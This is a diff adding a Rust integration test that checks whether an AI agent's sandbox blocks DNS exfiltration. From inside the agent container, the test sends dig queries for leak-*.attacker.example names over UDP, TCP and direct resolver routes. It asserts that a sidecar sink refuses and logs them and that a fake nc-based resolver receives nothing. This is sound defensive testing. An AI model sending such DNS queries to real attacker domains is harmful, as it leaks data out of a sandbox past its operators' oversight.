@@ -600,3 +600,108 @@ fn sigterm_while_the_agent_runs_tears_down() {
     );
     b.assert_nothing_left();
 }
+
+#[test]
+fn dns_queries_for_outside_names_reach_only_the_sink() {
+    let b = Bottle::new("dns", BOTTLE);
+    let plan = b.pipeline(&[]);
+    let agent = plan["compose"]["agent_container"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let sidecar = plan["compose"]["sidecar_container"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let sidecar_ip = plan["network"]["sidecar_ip"].as_str().unwrap().to_string();
+    let resolver = format!("bot-bottle-{}-resolver", b.name);
+    // A fake resolver on the egress network records every packet it receives, UDP and TCP.
+    docker(&[
+        "run",
+        "-d",
+        "--name",
+        &resolver,
+        "--network",
+        plan["network"]["egress"].as_str().unwrap(),
+        "bot-bottle-base:local",
+        "sh",
+        "-c",
+        "touch /tmp/udp /tmp/tcp; (nc -k -u -l 53 >>/tmp/udp &); exec nc -k -l 53 >>/tmp/tcp",
+    ]);
+    let resolver_ip = docker(&[
+        "inspect",
+        "-f",
+        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+        &resolver,
+    ]);
+    let ask = |args: &str| {
+        text(&exec(
+            &agent,
+            "node",
+            &format!("dig +time=2 +tries=1 {args}"),
+        ))
+        .0
+    };
+    assert!(ask("leak-default.attacker.example").contains("status: REFUSED"));
+    assert!(ask("+tcp leak-tcp.attacker.example").contains("status: REFUSED"));
+    assert!(ask(&format!("@{sidecar_ip} leak-sink.attacker.example")).contains("status: REFUSED"));
+    assert!(ask("@127.0.0.11 leak-embedded.attacker.example").contains("status: REFUSED"));
+    let direct = ask(&format!("@{resolver_ip} leak-direct.attacker.example"));
+    assert!(direct.contains("no servers could be reached"), "{direct}");
+    let direct_tcp = ask(&format!(
+        "+tcp @{resolver_ip} leak-direct-tcp.attacker.example"
+    ));
+    assert!(!direct_tcp.contains("status:"), "{direct_tcp}");
+
+    let received = text(&exec(&resolver, "root", "cat /tmp/udp /tmp/tcp | wc -c")).0;
+    assert_eq!(
+        received.trim(),
+        "0",
+        "the fake resolver on the egress network received a query"
+    );
+    let logs = Command::new("docker")
+        .args(["logs", &sidecar])
+        .output()
+        .unwrap();
+    let logs = String::from_utf8_lossy(&logs.stdout);
+    for name in ["leak-default", "leak-tcp", "leak-sink", "leak-embedded"] {
+        let line = logs
+            .lines()
+            .find(|l| l.contains(&format!("{name}.attacker.example")))
+            .unwrap_or_else(|| panic!("the sink logged no query for {name}: {logs}"));
+        let decision: Value = serde_json::from_str(line).unwrap();
+        assert_eq!(decision["service"], "dns");
+        assert_eq!(decision["verdict"], "block");
+    }
+    assert!(
+        !logs.contains("leak-direct"),
+        "the direct query never reached the sidecar either"
+    );
+    // Control: the fake resolver does record a query that can reach it.
+    let _ = Command::new("docker")
+        .args([
+            "run",
+            "--rm",
+            "--network",
+            plan["network"]["egress"].as_str().unwrap(),
+            "bot-bottle-base:local",
+        ])
+        .args([
+            "dig",
+            "+time=1",
+            "+tries=1",
+            &format!("@{resolver_ip}"),
+            "control.example",
+        ])
+        .output();
+    let received = text(&exec(&resolver, "root", "cat /tmp/udp | wc -c")).0;
+    assert_ne!(
+        received.trim(),
+        "0",
+        "the fake resolver records what reaches it"
+    );
+    docker(&["rm", "-f", &resolver]);
+    assert!(b.stage(&plan, &["bb-compose", "down"]).status.success());
+    assert!(b.stage(&plan, &["bb-net", "rm"]).status.success());
+    b.assert_nothing_left();
+}
